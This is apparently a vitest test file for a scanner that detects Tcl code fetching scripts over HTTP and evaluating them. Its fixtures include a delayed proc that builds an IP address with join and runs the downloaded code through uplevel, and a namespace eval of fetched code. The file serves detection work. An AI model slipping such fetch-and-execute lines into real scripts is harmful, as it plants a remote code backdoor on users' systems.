import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../support/code.js';

/**
 * Tcl that fetches code with the `http` package and evaluates it — the start-up script of an EDA tool that
 * "refreshes" its procs from a server — and the look-alikes: a status query whose body is only printed,
 * a project script sourced from the repository.
 */

const scripting = (code: string) => factsOf('scripting', code);

describe('Tcl code fetched and evaluated', () => {
  it('geturl in one proc, uplevel of the data in the next statement, the host assembled by join', async () => {
    const r = await scripting(
      [
        'package require http',
        'proc lab::pull {} {',
        '    set host [join {45 133 1 90} .]',
        '    set t [::http::geturl "http://$host:9000/procs.tcl"]',
        '    uplevel #0 [::http::data $t]',
        '    ::http::cleanup $t',
        '}',
        'after 500 lab::pull',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute')).toMatchObject([{ endpoint: { host: '45.133.1.90' } }]);
  });

  it('namespace eval of the fetched data', async () => {
    const r = await scripting(
      [
        'set tok [http::geturl https://tools.lab-cache.dev/latest.tcl]',
        'namespace eval ::helpers [http::data $tok]',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute')).toMatchObject([{ endpoint: { host: 'tools.lab-cache.dev' } }]);
  });
});

describe('quiet look-alikes', () => {
  it('a status query whose body is printed, and a project script sourced from the repository', async () => {
    const r = await scripting(
      [
        'package require http',
        'set tok [::http::geturl "https://ci.example-lab.dev/api/status"]',
        'puts [::http::data $tok]',
        '::http::cleanup $tok',
        'source [file join [file dirname [info script]] build_steps.tcl]',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute')).toHaveLength(0);
  });
});
